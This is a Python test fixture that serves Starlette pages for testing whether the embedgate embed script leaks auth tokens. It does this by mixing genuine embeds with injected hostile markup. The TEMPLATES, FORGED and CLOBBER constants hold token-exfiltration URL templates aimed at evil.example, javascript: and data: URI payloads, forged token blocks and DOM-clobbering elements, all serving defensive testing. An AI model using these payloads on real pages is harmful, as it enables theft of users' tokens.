"""The page the exfiltration tests load, served by uvicorn: Starlette behind
EmbedgateMiddleware (generic profile, settings from the test's ``EMBEDGATE_*`` variables,
``EMBEDGATE_PROVIDER_URL`` on ``localhost``, another origin of this same server).

Every page mixes the genuine embeds (``embed_snippet`` iframe and custom element, and a
hand-written element carrying ``embed_binding()``) with :data:`HOSTILE`, markup a user could
get into a page through a sanitizer that keeps ``data-*`` attributes (a comment, a profile
field). Pages differ in where the token data block goes: ``/`` renders it last, after the
hostile markup (clobbering elements with its id come first); ``/injected`` leaves it to the
middleware (into ``<head>``).

``/provider/embed`` plays the provider's embed page (on the provider's origin)."""

from __future__ import annotations

import os
from typing import Any

from jinja2 import DictLoader, Environment
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response
from starlette.routing import Route
from starlette.templating import Jinja2Templates

from embedgate import Engine
from embedgate.asgi import EmbedgateMiddleware
from embedgate.integrations.starlette import install_templates

EVIL = "https://evil.example"
# Values an attacker might guess for the binding, or one of its own.
GUESSES = ("", "null", "undefined", "true", "attacker-binding-0000000000")
FORGED_BLOCK = (
    '{"token":null,"endpoint":"/_embedgate/token","bind":"attacker-binding-0000000000",'
    '"allow":{"origins":["https://evil.example","self"],'
    '"attributes":["src","href","srcdoc","onerror","onload","style","action","content","*"],'
    '"sdks":["superset"]}}'
)
# Templates and attributes an attacker would try; the script must never follow them.
TEMPLATES = (
    EVIL + "/steal?t={token}",
    "//evil.example/steal?t={token}",
    "/\\evil.example/steal?t={token}",
    "\\\\evil.example/steal?t={token}",
    "https:evil.example/steal?t={token}",
    "http:/evil.example/steal?t={token}",
    "java\tscript:top.pwned=1//{token}",
    "javascript:top.pwned=1//{token}",
    "data:text/html,<script>top.pwned=1</script>{token}",
    "<script>top.pwned=1</script>{token}",
    "top.pwned=1//{token}",
)


# Elements with the data block's id, placed before it: the script must not read them.
FORGED = (
    f'<div id="embedgate-token">{FORGED_BLOCK}</div>'
    f'<script type="application/json" id="embedgate-token">{FORGED_BLOCK}</script>'
    f'<textarea id="embedgate-token">{FORGED_BLOCK}</textarea>'
)
# Elements named like the document's own properties and the script's global.
CLOBBER = (
    '<img name="currentScript" src="/img.png">'
    '<form name="querySelectorAll"></form><form name="getElementById"></form>'
    '<img name="documentElement" src="/img.png"><img name="baseURI" src="/img.png">'
    '<form id="embedgate"><input name="getToken"></form>'
    '<form name="readyState"></form><form name="visibilityState"></form>'
    '<img name="dispatchEvent" src="/img.png"><form name="addEventListener"></form>'
)


def _hostile() -> str:
    parts: list[str] = []
    # Every hostile element in every variant of binding an attacker could try.
    for bind in (None, *GUESSES):
        b = "" if bind is None else f' data-embedgate-bind="{bind}"'
        for tpl in TEMPLATES:
            t = tpl.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")
            parts += [
                f'<img data-embedgate-token="src" data-embedgate-url-template="{t}"{b}>',
                f'<img loading="lazy" data-embedgate-token="src"'
                f' data-embedgate-url-template="{t}"{b}>',
                f'<iframe data-embedgate-token="src" data-embedgate-url-template="{t}"{b}>'
                "</iframe>",
                f'<iframe data-embedgate-token="srcdoc" data-embedgate-url-template="{t}"{b}>'
                "</iframe>",
                f'<a id="link" data-embedgate-token="href" data-embedgate-url-template="{t}"{b}>'
                "x</a>",
                f'<link rel="prefetch" data-embedgate-token="href"'
                f' data-embedgate-url-template="{t}"{b}>',
                f'<form data-embedgate-token="action" data-embedgate-url-template="{t}"{b}>'
                '<button formaction="" data-embedgate-token="formaction">go</button></form>',
                f'<meta http-equiv="refresh" data-embedgate-token="content"'
                f' data-embedgate-url-template="0;url={t}"{b}>',
                f'<svg><image data-embedgate-token="href" data-embedgate-url-template="{t}"{b}>'
                "</image></svg>",
                f'<x-widget data-embedgate-token="src" data-embedgate-url-template="{t}"{b}>'
                "</x-widget>",
                f'<img data-embedgate-resource="dashboard:1" data-embedgate-token="src"'
                f' data-embedgate-url-template="{t}"{b}>',
            ]
            if "script" not in tpl and not tpl.startswith("data:"):
                # The first value of a URL attribute as its template (it runs by itself
                # otherwise: that is the sanitizer's to stop, not the script's).
                parts.append(f'<iframe src="{t}" data-embedgate-token="src"{b}></iframe>')
        parts += [
            f'<img src="/missing.png" data-embedgate-token="onerror"{b}>',
            f'<x-widget data-embedgate-token="onclick"{b}></x-widget>',
            f'<x-widget data-embedgate-token="style"{b}></x-widget>',
            f'<iframe data-embedgate-token="srcdoc"{b}></iframe>',
            f'<img data-embedgate-token="title"{b}>',
            f'<x-widget data-embedgate-token="auth"{b}></x-widget>',
            f'<div data-embedgate-sdk="superset" data-embedgate-dashboard="1"'
            f' data-embedgate-domain="{EVIL}"{b}></div>',
            f'<div data-embedgate-sdk="superset" data-embedgate-dashboard="1"'
            f' data-embedgate-domain="/\\evil.example"{b}></div>',
            f'<div data-embedgate-sdk="thoughtspot" data-embedgate-domain="{EVIL}"{b}></div>',
            f'<iframe data-embedgate-resource="dashboard:9"{b}></iframe>',
        ]
    return "\n".join(parts)


HOSTILE = _hostile()

GENUINE = """
{{ embed_snippet('iframe', 'sales', url=provider + '/provider/embed#token={token}', id='frame') }}
{{ embed_snippet('iframe', 'local', url='/local/embed#token={token}', id='local') }}
{{ embed_snippet('element', 'sales', tag='x-dash', attribute='auth', id='element') }}
<tc-dashboard id="handwritten" data-embedgate-token="auth-token" {{ embed_binding() }}>
</tc-dashboard>
"""
RECORDER = """<script>
  window.pwned = 0; window.seen = []; window.errors = [];
  window.addEventListener("embedgate:token", function (e) { window.seen.push(e.detail.token); });
  window.addEventListener("embedgate:error", function (e) { window.errors.push(e.detail); });
</script>"""
PAGES = {
    # The data block after the hostile markup: elements with its id come first.
    "last.html": "<!doctype html><html><head><title>Comments</title>" + RECORDER + "</head><body>"
    "<section class=comments>"
    + FORGED
    + "{{ hostile | safe }}</section>"
    + GENUINE
    + "{{ embed_script() }}</body></html>",
    # The same, and elements clobbering the document's properties and window.embedgate.
    "clobbered.html": "<!doctype html><html><head><title>Comments</title>"
    + RECORDER
    + "</head><body><section class=comments>"
    + FORGED
    + CLOBBER
    + "{{ hostile | safe }}</section>"
    + GENUINE
    + "{{ embed_script() }}</body></html>",
    # The genuine embeds alone.
    "plain.html": "<!doctype html><html><head><title>Sales</title>"
    + RECORDER
    + "</head><body>"
    + GENUINE
    + "{{ embed_script() }}</body></html>",
    # The middleware injects the block into <head>; the hostile markup follows it.
    "injected.html": "<!doctype html><html><head><title>Comments</title>" + RECORDER + "</head>"
    "<body>" + GENUINE + "<section class=comments>{{ hostile | safe }}</section></body></html>",
}


def create() -> EmbedgateMiddleware:
    """uvicorn ``--factory`` entry point."""
    environ = {k: v for k, v in os.environ.items() if k.startswith("EMBEDGATE_")}
    engine = Engine.from_settings(environ=environ)
    provider = environ["EMBEDGATE_PROVIDER_URL"]
    templates = install_templates(
        Jinja2Templates(env=Environment(loader=DictLoader(PAGES), autoescape=True))
    )

    def page(name: str) -> Any:
        async def render(request: Request) -> Response:
            context = {"request": request, "hostile": HOSTILE, "provider": provider}
            return templates.TemplateResponse(request, name, context)

        return render

    async def embed(request: Request) -> Response:
        return HTMLResponse("<!doctype html><title>provider</title><p>dashboard</p>")

    async def empty(request: Request) -> Response:
        return Response(b"", status_code=204)

    app = Starlette(
        routes=[
            Route("/", page("last.html")),
            Route("/injected", page("injected.html")),
            Route("/clobbered", page("clobbered.html")),
            Route("/plain", page("plain.html")),
            Route("/provider/embed", embed),
            Route("/local/embed", embed),
            Route("/img.png", empty),
            Route("/missing.png", empty),
        ]
    )

    def user(scope: Any) -> dict[str, str]:
        return {"sub": "alice", "email": "alice@example.com"}

    return EmbedgateMiddleware(app, engine, user_resolver=user)
